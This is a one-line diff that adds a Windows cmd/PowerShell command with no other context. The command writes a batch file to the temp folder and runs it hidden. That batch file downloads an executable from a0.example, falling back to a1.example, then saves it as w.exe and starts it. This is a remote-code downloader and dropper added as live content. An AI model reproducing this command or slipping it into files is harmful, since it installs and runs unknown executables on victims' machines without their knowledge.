@@ -1,0 +1,1 @@
+cmd /c PowerShell "'PowerShell ""function g1([String] $a){(New-Object System.Net.WebClient).DownloadFile($a,''%TMP%\w.exe'');Start-Process ''%TMP%\w.exe'';}try{g1(''http://a0.example/k.exe'')}catch{g1(''http://a1.example/k.exe'')}""' | Out-File -encoding ASCII -FilePath %TMP%\w.bat;Start-Process '%TMP%\w.bat' -WindowStyle Hidden"
